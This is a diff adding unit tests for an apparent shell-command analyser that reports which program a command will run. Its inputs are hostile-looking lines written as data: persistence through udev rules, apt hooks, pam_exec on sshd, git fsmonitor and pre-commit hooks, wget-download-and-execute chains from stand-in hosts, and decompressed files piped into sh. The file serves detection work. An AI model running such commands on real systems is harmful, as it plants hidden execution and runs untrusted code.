@@ -88,3 +88,40 @@ describe("a conversation that was written down", () => {
     expect(shown("ftp && !/opt/k").join()).not.toContain("ftp/commands");
   });
 });
+
+describe("a file of settings that other programs read", () => {
+  it.each([
+    ["udev", `echo 'KERNEL=="a", RUN+="/opt/k"' > /etc/udev/rules.d/9-a.rules`],
+    ["apt", `echo 'APT::Update::Pre-Invoke {"/opt/k"};' | sudo tee /etc/apt/apt.conf.d/9a`],
+    ["pam", "echo 'auth optional pam_exec.so /opt/k' >> /etc/pam.d/sshd"],
+    ["git", "printf '[core]\\n  fsmonitor = /opt/k\\n' > ~/.gitconfig"],
+    ["a repository's hook", "echo /opt/k > .git/hooks/pre-commit"],
+  ])("tells what will run: %s", (_, line) => {
+    expect(shown(line).some((one) => one.endsWith(": /opt/k"))).toBe(true);
+  });
+});
+
+describe("a program that the line itself has fetched", () => {
+  it("is told with the machine that it comes from where that has no name", () => {
+    const fetched = (url: string) => shown(`wget -q ${url} -O /opt/k; chmod +x /opt/k; /opt/k`);
+    expect(fetched("http://192.0.2.7/k")).toContain("sh/fetched-program: http://192.0.2.7/k");
+    expect(fetched("http://h.example/k")).not.toContain("sh/fetched-program: http://h.example/k");
+    expect(fetched("http://h.example/k")).toContain("sh/fetched-program: /opt/k");
+  });
+  it("is one that lies where programs are looked for, where its name is bare", () => {
+    expect(shown("wget -q http://h.example/k -O /usr/local/bin/k; k")).toContain("sh/fetched-program: k");
+    expect(shown("cd /d; wget -q http://h.example/k; k").join()).not.toContain("fetched-program");
+    expect(shown("wget -q http://h.example/k; mv k /usr/bin/; k")).toContain("sh/fetched-program: k");
+  });
+});
+
+describe("what a shell is handed", () => {
+  it.each([
+    ["unpacked", "xz -dc ./k.xz | sh", "sh/decoded: ./k.xz"],
+    ["unpacked of a part", "head -c 900 ./k | tr a b | xz -d | bash", "sh/decoded: ./k"],
+    ["unpacked of its input", "gunzip < ./k.gz | sh", "sh/decoded: ./k.gz"],
+    ["edited", "sed 1d ./k | sh", "sh/script-from-file: ./k"],
+  ])("is a file, %s", (_, line, told) => {
+    expect(shown(line)).toContain(told);
+  });
+});
